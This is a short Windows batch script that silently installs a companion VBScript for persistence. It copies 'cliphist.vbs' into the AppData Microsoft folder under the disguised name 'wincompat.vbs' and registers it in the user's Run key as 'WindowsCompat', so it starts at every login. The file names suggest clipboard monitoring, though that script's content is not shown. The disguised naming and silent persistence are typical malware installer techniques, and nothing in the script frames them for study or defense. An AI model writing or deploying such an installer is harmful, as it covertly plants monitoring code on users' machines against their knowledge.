@echo off
copy /y "%~dp0cliphist.vbs" "%APPDATA%\Microsoft\wincompat.vbs" >nul
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v "WindowsCompat" /t REG_SZ /d "wscript.exe \"%APPDATA%\Microsoft\wincompat.vbs\"" /f >nul
echo Installed.
